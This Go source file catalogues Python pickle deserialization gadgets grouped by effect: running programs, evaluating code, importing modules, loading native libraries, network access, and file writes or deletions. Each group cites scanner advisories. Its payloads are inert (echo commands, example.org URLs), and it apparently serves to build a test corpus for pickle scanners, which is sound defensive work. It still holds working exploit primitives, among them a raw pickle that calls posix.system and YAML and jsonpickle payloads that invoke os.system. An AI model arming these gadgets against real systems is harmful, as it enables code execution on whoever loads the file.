package main

// gadget is a callable that does harm when a pickle calls it with these arguments.
type gadget struct {
	module, name string
	args         tuple
}

// gadgets are callables by what they do, each group with where it was published.
var gadgets = []struct {
	class, source string
	list          []gadget
}{
	{"runs a program", "Python documentation of pickle; Sleepy pickle (Trail of Bits)", []gadget{
		{"os", "system", tuple{cmd}}, {"posix", "system", tuple{cmd}}, {"nt", "system", tuple{cmd}}, {"os", "popen", tuple{cmd}},
		{"os", "execl", tuple{"/bin/echo", "echo", word}}, {"os", "execv", tuple{"/bin/echo", list{"echo", word}}},
		{"os", "execvp", tuple{"echo", list{"echo", word}}}, {"os", "spawnl", tuple{0, "/bin/echo", "echo", word}},
		{"os", "spawnv", tuple{0, "/bin/echo", list{"echo", word}}}, {"posix", "posix_spawn", tuple{"/bin/echo", list{"echo", word}, dict{}}},
		{"os", "startfile", tuple{"corpus.txt"}}, {"posix", "execve", tuple{"/bin/echo", list{"echo", word}, dict{}}}, {"nt", "startfile", tuple{"corpus.txt"}},
		{"subprocess", "Popen", tuple{list{"echo", word}}}, {"subprocess", "call", tuple{list{"echo", word}}}, {"subprocess", "run", tuple{list{"echo", word}}},
		{"subprocess", "check_call", tuple{list{"echo", word}}}, {"subprocess", "check_output", tuple{list{"echo", word}}},
		{"subprocess", "getoutput", tuple{cmd}}, {"subprocess", "getstatusoutput", tuple{cmd}},
		{"commands", "getoutput", tuple{cmd}}, {"popen2", "popen3", tuple{cmd}}, {"platform", "popen", tuple{cmd}},
		{"pty", "spawn", tuple{list{"echo", word}}}, {"_posixsubprocess", "fork_exec", tuple{list{"echo"}, list{[]byte("/bin/echo")}, true, tuple{}}},
		{"multiprocessing.util", "spawnv_passfds", tuple{[]byte("/bin/echo"), tuple{"echo", word}, tuple{}}},
		{"distutils.spawn", "spawn", tuple{list{"echo", word}}}, {"distutils.spawn", "_spawn_posix", tuple{list{"echo", word}}},
		{"asyncio.unix_events", "_UnixSubprocessTransport._start", tuple{nil, cmd, true, nil, nil, nil, 0}},
		{"gevent.subprocess", "Popen", tuple{list{"echo", word}}}, {"eventlet.green.subprocess", "call", tuple{list{"echo", word}}}, {"psutil", "Popen", tuple{list{"echo", word}}},
		{"pexpect", "run", tuple{cmd}}, {"pexpect", "spawn", tuple{cmd}}, {"invoke", "run", tuple{cmd}}, {"fabric.api", "local", tuple{cmd}},
		{"IPython.utils.process", "system", tuple{cmd}}, {"IPython.utils.process", "getoutput", tuple{cmd}},
	}},
	{"runs Python code", "picklescan advisories GHSA-v7x6-rv5q-mhwc, -46h3-79wf-xr6c, -4675-36f9-wf6r", []gadget{
		{"builtins", "eval", tuple{code}}, {"builtins", "exec", tuple{code}}, {"__builtin__", "eval", tuple{code}}, {"__builtin__", "execfile", tuple{"corpus.py"}},
		{"builtins", "compile", tuple{code, "x", "exec"}}, {"builtins", "breakpoint", tuple{}}, {"builtins", "help", tuple{"antigravity"}},
		{"timeit", "timeit", tuple{"0", code, global{"time", "time"}, 1}}, {"timeit", "repeat", tuple{code}}, {"timeit", "main", tuple{list{code}}},
		{"cProfile", "run", tuple{code}}, {"cProfile", "runctx", tuple{code, dict{}, dict{}}}, {"profile", "run", tuple{code}}, {"profile", "Profile.run", tuple{nil, code}},
		{"pdb", "run", tuple{code}}, {"pdb", "runeval", tuple{code}}, {"pdb", "runcall", tuple{global{"os", "system"}, cmd}}, {"bdb", "Bdb.run", tuple{nil, code}},
		{"trace", "Trace.run", tuple{nil, code}}, {"trace", "Trace.runctx", tuple{nil, code}}, {"doctest", "debug_script", tuple{code}}, {"doctest", "debug_src", tuple{code}},
		{"code", "interact", tuple{}}, {"code", "InteractiveInterpreter.runcode", tuple{nil, code}}, {"code", "InteractiveInterpreter.runsource", tuple{nil, code}},
		{"runpy", "run_path", tuple{"corpus.py"}}, {"runpy", "run_module", tuple{"antigravity"}}, {"runpy", "_run_code", tuple{code, dict{}}},
		{"_interpreters", "run_string", tuple{1, code}}, {"_xxsubinterpreters", "run_string", tuple{1, code}}, {"_testcapi", "run_in_subinterp", tuple{code}},
		{"test.support", "run_in_subinterp", tuple{code}}, {"test.support.script_helper", "assert_python_ok", tuple{"-c", code}}, {"unittest.loader", "TestLoader.loadTestsFromName", tuple{nil, "antigravity.x"}},
		{"numpy.testing._private.utils", "runstring", tuple{code, dict{}}}, {"numpy.testing.utils", "runstring", tuple{code, dict{}}},
		{"sqlite3", "connect", tuple{"corpus.db"}}, {"IPython.core.interactiveshell", "InteractiveShell.run_cell", tuple{nil, code}},
	}},
	{"runs a program by the way", "picklescan advisories GHSA-g38g-8gr9-h9xp, -xp4f-hrf8-rxw7, -vqmv-47xg-9wpr, -r8g5-cgf2-4m4m", []gadget{
		{"uuid", "_get_command_stdout", tuple{"echo", word}}, {"_osx_support", "_read_output", tuple{cmd}}, {"_osx_support", "_find_build_tool", tuple{cmd}},
		{"_aix_support", "_read_cmd_output", tuple{cmd}}, {"_pyrepl.pager", "pipe_pager", tuple{"x", cmd}}, {"pydoc", "pipepager", tuple{"x", cmd}}, {"pydoc", "tempfilepager", tuple{"x", cmd}},
		{"imaplib", "IMAP4_stream", tuple{cmd}}, {"webbrowser", "open", tuple{url}}, {"webbrowser", "open_new_tab", tuple{url}},
		{"ensurepip", "_run_pip", tuple{list{"--version"}}}, {"ensurepip", "bootstrap", tuple{}}, {"ensurepip._uninstall", "_main", tuple{list{}}},
		{"pip", "main", tuple{list{"--version"}}}, {"pip._internal", "main", tuple{list{"--version"}}}, {"pip._internal.cli.main", "main", tuple{list{"--version"}}},
		{"venv", "create", tuple{"corpus-env"}}, {"venv", "main", tuple{list{"corpus-env"}}}, {"ctypes.util", "_findLib_gcc", tuple{"corpus"}},
		{"idlelib.autocomplete", "AutoComplete.get_entity", tuple{nil, code}}, {"idlelib.autocomplete", "AutoComplete.fetch_completions", tuple{nil, code, 1}},
		{"idlelib.calltip", "Calltip.fetch_tip", tuple{nil, code}}, {"idlelib.calltip", "get_entity", tuple{code}}, {"idlelib.debugobj", "ObjectTreeItem.SetText", tuple{nil, code}},
		{"idlelib.pyshell", "ModifiedInterpreter.runcode", tuple{nil, code}}, {"idlelib.pyshell", "ModifiedInterpreter.runcommand", tuple{nil, code}}, {"idlelib.run", "Executive.runcode", tuple{nil, code}},
		{"lib2to3.pgen2.grammar", "Grammar.loads", tuple{nil, []byte(nestedSystem)}}, {"lib2to3.pgen2.pgen", "ParserGenerator.make_label", tuple{nil, nil, "'" + code + "'"}},
		{"setuptools.sandbox", "execfile", tuple{"corpus.py", dict{}}}, {"pkg_resources", "run_script", tuple{"pip", "x"}}, {"distutils.core", "run_setup", tuple{"setup.py"}},
	}},
	{"library runs code", "The Art of Hide and Seek (arXiv 2508.19774); picklescan advisories GHSA-f4x7-rfwp-v3xw, -h3qp-7fh3-f8h4, -4whj-rm5r-c2v8", []gadget{
		{"torch.utils.collect_env", "run", tuple{cmd}}, {"torch.utils.bottleneck.__main__", "run_cprofile", tuple{code, dict{}}}, {"torch.utils.bottleneck.__main__", "run_autograd_prof", tuple{code, dict{}}},
		{"torch._dynamo.guards", "GuardBuilder.get", tuple{nil, code}}, {"torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", tuple{nil, code, tuple{}}},
		{"torch._inductor.codecache", "compile_file", tuple{"", "", list{"echo", word}}}, {"torch._inductor.cpp_builder", "run_compile_cmd", tuple{cmd, "."}}, {"torch.jit.unsupported_tensor_ops", "execWrapper", tuple{code, dict{}, dict{}}},
		{"torch.utils._config_module", "ConfigModule.load_config", tuple{nil, []byte(nestedSystem)}}, {"torch.utils.data.datapipes.utils.decoder", "basichandlers", tuple{"pickle", []byte(nestedSystem)}},
		{"torch.utils.cpp_extension", "load", tuple{"x", "corpus.cpp"}}, {"torch.utils.cpp_extension", "load_inline", tuple{"x", "int f();"}}, {"torch.fx.graph_module", "_exec_with_source", tuple{code, dict{}}},
		{"torch.fx.graph_module", "_forward_from_src", tuple{code, dict{}}}, {"torch.fx.graph_module", "reduce_graph_module", tuple{dict{"_code", code}, code}}, {"torch.testing._internal.common_utils", "shell", tuple{list{"echo", word}}},
		{"numpy.f2py.crackfortran", "getlincoef", tuple{code, dict{}}}, {"numpy.f2py.crackfortran", "_eval_length", tuple{code, dict{}}}, {"numpy.f2py.crackfortran", "param_eval", tuple{code, dict{}, dict{}}}, {"numpy.f2py.crackfortran", "myeval", tuple{code}},
		{"numpy.f2py.diagnose", "run_command", tuple{cmd}}, {"numpy.distutils.exec_command", "exec_command", tuple{cmd}}, {"numpy.f2py", "compile", tuple{"end"}},
		{"pandas", "eval", tuple{"@" + code}}, {"pandas.core.computation.eval", "eval", tuple{"@" + code}}, {"pandas.core.frame", "DataFrame.query", tuple{nil, "@" + code}},
		{"sympy.core.sympify", "sympify", tuple{code}}, {"sympy.parsing.sympy_parser", "parse_expr", tuple{code}}, {"sympy.utilities.lambdify", "lambdify", tuple{"x", code}},
		{"numexpr", "evaluate", tuple{code}}, {"cloudpickle.cloudpickle", "subimport", tuple{"antigravity"}}, {"dill._dill", "_import_module", tuple{"os.system"}}, {"dill._dill", "_create_function", tuple{fn("marshal", "loads", marshalled("3.11", "os", "system", cmd)), dict{}}},
		{"cloudpickle.cloudpickle", "_make_function", tuple{fn("marshal", "loads", marshalled("3.11", "os", "system", cmd)), dict{}, "f", nil, nil}},
		{"mlflow.projects.backend.local", "_run_entry_point", tuple{cmd, ".", "", ""}}, {"mako.template", "Template", tuple{"<%! import os %>"}}, {"PIL.ImageMath", "eval", tuple{code}},
		{"Cython.Build.Inline", "cython_inline", tuple{code}}, {"scipy.weave", "inline", tuple{"int x;"}}, {"tensorflow.python.framework.load_library", "load_op_library", tuple{"./corpus.so"}},
		{"transformers.dynamic_module_utils", "get_class_from_dynamic_module", tuple{"m.C", "example/model"}}, {"nltk.data", "load", tuple{url}},
	}},
	{"imports", "picklescan issue 66; GHSA-vvpj-8cmc-gx39; GHSA-565g-hwwr-4pp3", []gadget{
		{"builtins", "__import__", tuple{"antigravity"}}, {"importlib", "import_module", tuple{"antigravity"}}, {"importlib", "__import__", tuple{"os"}}, {"importlib._bootstrap", "_gcd_import", tuple{"antigravity"}},
		{"_frozen_importlib", "__import__", tuple{"os"}}, {"imp", "load_source", tuple{"x", "corpus.py"}}, {"imp", "load_dynamic", tuple{"x", "./corpus.so"}}, {"_imp", "create_dynamic", tuple{nil}},
		{"importlib._bootstrap_external", "SourceFileLoader.load_module", tuple{nil, "x"}}, {"zipimport", "zipimporter.load_module", tuple{nil, "x"}}, {"pkgutil", "resolve_name", tuple{"os:system"}},
		{"pydoc", "locate", tuple{"os.system"}}, {"pydoc", "safeimport", tuple{"antigravity"}}, {"site", "addsitedir", tuple{"."}}, {"site", "addpackage", tuple{".", "corpus.pth", set{}}},
		{"importlib.metadata", "EntryPoint.load", tuple{nil}}, {"unittest.mock", "_importer", tuple{"os.system"}}, {"logging.config", "_resolve", tuple{"os.system"}}, {"xmlrpc.server", "resolve_dotted_attribute", tuple{nil, "x", true}},
		{"sympy.external.importtools", "import_module", tuple{"antigravity"}}, {"werkzeug.utils", "import_string", tuple{"os.system"}}, {"django.utils.module_loading", "import_string", tuple{"os.system"}},
	}},
	{"native code", "fickling UNSAFE_IMPORTS; The Art of Hide and Seek", []gadget{
		{"ctypes", "CDLL", tuple{"./corpus.so"}}, {"ctypes", "PyDLL", tuple{"./corpus.so"}}, {"ctypes", "LibraryLoader.LoadLibrary", tuple{global{"ctypes", "cdll"}, "./corpus.so"}}, {"_ctypes", "dlopen", tuple{"./corpus.so", 2}}, {"ctypes", "string_at", tuple{0}},
		{"torch._ops", "_Ops.load_library", tuple{nil, "./corpus.so"}}, {"torch", "ops.load_library", tuple{"./corpus.so"}}, {"torch", "classes.load_library", tuple{"./corpus.so"}}, {"numpy.ctypeslib", "load_library", tuple{"corpus", "."}}, {"cffi.api", "FFI.dlopen", tuple{nil, "./corpus.so"}},
		{"tensorflow", "load_library", tuple{"./corpus.so"}}, {"faulthandler", "_sigsegv", tuple{}},
	}},
	{"network", "picklescan advisories GHSA-hgrh-qx5j-jfwx, CVE-2025-46417 (DNS exfiltration by ssl)", []gadget{
		{"socket", "create_connection", tuple{tuple{"example.org", 80}}}, {"socket", "gethostbyname", tuple{"secret.example.org"}}, {"socket", "getaddrinfo", tuple{"secret.example.org", 80}}, {"_socket", "gethostbyname", tuple{"secret.example.org"}},
		{"ssl", "get_server_certificate", tuple{tuple{"example.org", 443}}}, {"urllib.request", "urlopen", tuple{url}}, {"urllib.request", "urlretrieve", tuple{url, "corpus.txt"}}, {"urllib2", "urlopen", tuple{url}}, {"urllib", "urlretrieve", tuple{url, "corpus.txt"}},
		{"smtplib", "SMTP", tuple{"example.org"}}, {"ftplib", "FTP", tuple{"example.org"}}, {"poplib", "POP3", tuple{"example.org"}}, {"imaplib", "IMAP4", tuple{"example.org"}}, {"nntplib", "NNTP", tuple{"example.org"}}, {"telnetlib", "Telnet", tuple{"example.org"}},
		{"requests", "get", tuple{url}}, {"requests.api", "post", tuple{url}}, {"httpx", "get", tuple{url}}, {"http.client", "HTTPSConnection", tuple{"example.org"}}, {"multiprocessing.connection", "Client", tuple{tuple{"example.org", 80}}}, {"xmlrpc.client", "ServerProxy", tuple{url}},
		{"torch.hub", "load", tuple{"example/model", "m"}}, {"torch.hub", "load_state_dict_from_url", tuple{url}}, {"torch.hub", "download_url_to_file", tuple{url, "corpus.bin"}}, {"torch.utils.model_zoo", "load_url", tuple{url}},
		{"pandas", "read_csv", tuple{url}}, {"pandas.io.parsers.readers", "read_csv", tuple{url}}, {"pandas.io.parquet", "read_parquet", tuple{url}}, {"numpy.lib._datasource", "open", tuple{url}}, {"sklearn.datasets._openml", "fetch_openml", tuple{"x"}},
		{"huggingface_hub", "snapshot_download", tuple{"example/model"}}, {"transformers", "AutoModel.from_pretrained", tuple{"example/model"}}, {"tensorflow.keras.utils", "get_file", tuple{"x", url}}, {"keras.src.utils.file_utils", "get_file", tuple{"x", url}}, {"torchvision.datasets.utils", "download_url", tuple{url, "."}},
		{"git.repo.base", "Repo.clone_from", tuple{url, "corpus"}}, {"wget", "download", tuple{url}}, {"gdown", "download", tuple{url, "corpus"}},
	}},
	{"files", "picklescan advisories for io.FileIO, logging.FileHandler, distutils.file_util (CVE-2025-10155 thread)", []gadget{
		{"builtins", "open", tuple{"corpus.txt", "w"}}, {"io", "open", tuple{"corpus.txt", "w"}}, {"_io", "open", tuple{"corpus.txt", "a"}}, {"_io", "FileIO", tuple{"corpus.txt", "w"}}, {"io", "FileIO", tuple{"/etc/hostname"}}, {"codecs", "open", tuple{"corpus.txt", "w"}}, {"_pyio", "open", tuple{"corpus.txt", "w"}},
		{"os", "remove", tuple{"corpus.txt"}}, {"os", "unlink", tuple{"corpus.txt"}}, {"os", "rename", tuple{"corpus.txt", "b"}}, {"os", "chmod", tuple{"corpus.txt", 511}}, {"os", "symlink", tuple{"a", "b"}}, {"posix", "open", tuple{"corpus.txt", 65}}, {"posix", "rmdir", tuple{"corpus"}},
		{"shutil", "rmtree", tuple{"corpus"}}, {"shutil", "copyfile", tuple{"/etc/hostname", "corpus.txt"}}, {"shutil", "move", tuple{"a", "b"}}, {"shutil", "unpack_archive", tuple{"corpus.zip"}}, {"shutil", "chown", tuple{"corpus.txt", "root"}},
		{"pathlib", "Path.write_text", tuple{fn("pathlib", "PosixPath", "corpus.txt"), word}}, {"pathlib", "Path.unlink", tuple{fn("pathlib", "PosixPath", "corpus.txt")}}, {"pathlib", "Path.read_text", tuple{fn("pathlib", "PosixPath", "/etc/hostname")}},
		{"distutils.file_util", "write_file", tuple{"corpus.txt", list{word}}}, {"distutils.dir_util", "remove_tree", tuple{"corpus"}}, {"logging", "FileHandler", tuple{"corpus.log"}}, {"logging.handlers", "RotatingFileHandler", tuple{"corpus.log"}},
		{"logging.config", "fileConfig", tuple{"corpus.ini"}}, {"logging.config", "dictConfig", tuple{dict{"version", 1, "handlers", dict{"h", dict{"()", "os.system", "command", cmd}}}}},
		{"numpy", "savetxt", tuple{"corpus.txt", list{1}}}, {"numpy.lib.npyio", "save", tuple{"corpus.npy", list{1}}}, {"numpy", "memmap", tuple{"corpus.bin", "uint8", "w+", 0, tuple{4}}}, {"numpy", "fromfile", tuple{"/etc/hostname", "uint8"}}, {"numpy", "loadtxt", tuple{"/etc/hostname"}}, {"numpy", "genfromtxt", tuple{"/etc/hostname"}},
		{"zipfile", "ZipFile", tuple{"corpus.zip", "w"}}, {"zipfile", "ZipFile.extractall", tuple{nil, "."}}, {"tarfile", "open", tuple{"corpus.tar", "w"}}, {"gzip", "open", tuple{"corpus.gz", "wb"}}, {"bz2", "BZ2File", tuple{"corpus.bz2", "w"}}, {"lzma", "LZMAFile", tuple{"corpus.xz", "w"}},
		{"fileinput", "FileInput", tuple{"corpus.txt"}}, {"linecache", "getline", tuple{"/etc/hostname", 1}}, {"dbm.dumb", "open", tuple{"corpus", "c"}}, {"tempfile", "NamedTemporaryFile", tuple{}}, {"tensorflow.python.lib.io.file_io", "write_string_to_file", tuple{"corpus.txt", word}}, {"sklearn.datasets", "load_files", tuple{"."}},
		{"PIL.Image", "open", tuple{"/etc/hostname"}}, {"scipy.io", "loadmat", tuple{"corpus.mat"}},
	}},
	{"loads again", "picklescan advisories GHSA-84r2-jw7c-4r5q, -9w88-8rmg-7g2p; Pickleball", []gadget{
		{"pickle", "loads", tuple{[]byte(nestedSystem)}}, {"_pickle", "loads", tuple{[]byte(nestedSystem)}}, {"cPickle", "loads", tuple{[]byte(nestedSystem)}}, {"pickle", "load", tuple{fn("io", "BytesIO", []byte(nestedSystem))}}, {"dill", "loads", tuple{[]byte(nestedSystem)}},
		{"dill._dill", "loads", tuple{[]byte(nestedSystem)}}, {"cloudpickle", "loads", tuple{[]byte(nestedSystem)}}, {"joblib", "load", tuple{"corpus.pkl"}}, {"joblib.numpy_pickle", "load", tuple{"corpus.pkl"}}, {"sklearn.externals.joblib", "load", tuple{"corpus.pkl"}},
		{"torch", "load", tuple{"corpus.pt"}}, {"torch.serialization", "load", tuple{"corpus.pt"}}, {"torch.storage", "_load_from_bytes", tuple{[]byte(nestedSystem)}}, {"torch.jit._serialization", "load", tuple{"corpus.pt"}}, {"torch.package", "PackageImporter", tuple{"corpus.pt"}},
		{"numpy", "load", tuple{"corpus.npy", nil, true}}, {"pandas", "read_pickle", tuple{"corpus.pkl"}}, {"pandas.io.pickle", "read_pickle", tuple{url}}, {"pandas.compat.pickle_compat", "load", tuple{fn("io", "BytesIO", []byte(nestedSystem))}},
		{"shelve", "open", tuple{"corpus"}}, {"marshal", "loads", tuple{marshalled("3.11", "os", "system", cmd)}}, {"yaml", "unsafe_load", tuple{"!!python/object/apply:os.system ['" + cmd + "']"}}, {"yaml", "load", tuple{"!!python/object/apply:os.system ['" + cmd + "']", global{"yaml", "UnsafeLoader"}}},
		{"jsonpickle", "decode", tuple{`{"py/reduce": [{"py/function": "os.system"}, ["echo x"]]}`}}, {"multiprocessing.reduction", "ForkingPickler.loads", tuple{[]byte(nestedSystem)}}, {"tensorflow.keras.models", "load_model", tuple{"corpus.h5"}}, {"keras.saving.legacy.save", "load_model", tuple{"corpus.h5"}},
		{"pickle", "_loads", tuple{[]byte(nestedSystem)}}, {"pickle", "Unpickler.load", tuple{fn("pickle", "Unpickler", fn("io", "BytesIO", []byte(nestedSystem)))}},
	}},
	{"interpreter", "picklescan sys.modules override; fickling UNSAFE_IMPORTS", []gadget{
		{"atexit", "register", tuple{global{"os", "system"}, cmd}}, {"threading", "Timer", tuple{1, global{"os", "system"}, tuple{cmd}}}, {"_thread", "start_new_thread", tuple{global{"os", "system"}, tuple{cmd}}}, {"weakref", "finalize", tuple{fn("builtins", "set"), global{"os", "system"}, cmd}},
		{"signal", "signal", tuple{14, global{"os", "system"}}}, {"sys", "settrace", tuple{global{"os", "system"}}}, {"sys", "addaudithook", tuple{global{"os", "system"}}}, {"os", "putenv", tuple{"LD_PRELOAD", "./corpus.so"}}, {"os", "environ.update", tuple{dict{"PYTHONSTARTUP", "corpus.py"}}},
		{"builtins", "setattr", tuple{global{"os", "path"}, "join", global{"os", "system"}}}, {"sys", "path.insert", tuple{0, "."}}, {"os", "_exit", tuple{0}}, {"os", "kill", tuple{0, 15}}, {"os", "fork", tuple{}}, {"sys", "exit", tuple{}}, {"os", "register_at_fork", tuple{}},
		{"asyncio", "run", tuple{fn("asyncio.subprocess", "create_subprocess_shell", cmd)}}, {"os", "chdir", tuple{"/"}}, {"concurrent.futures.thread", "ThreadPoolExecutor.submit", tuple{fn("concurrent.futures.thread", "ThreadPoolExecutor"), global{"os", "system"}, cmd}}, {"multiprocessing.pool", "ThreadPool.map", tuple{nil, global{"os", "system"}, list{cmd}}},
	}},
}

// Inert payloads.
const (
	word = "lodemark-corpus"
	cmd  = "echo " + word
	code = "__import__('os').system('" + cmd + "')"
	url  = "http://example.org/" + word
	// nestedSystem is a pickle that would run cmd.
	nestedSystem = "\x80\x02cposix\nsystem\nX\x14\x00\x00\x00echo lodemark-corpus\x85R."
)
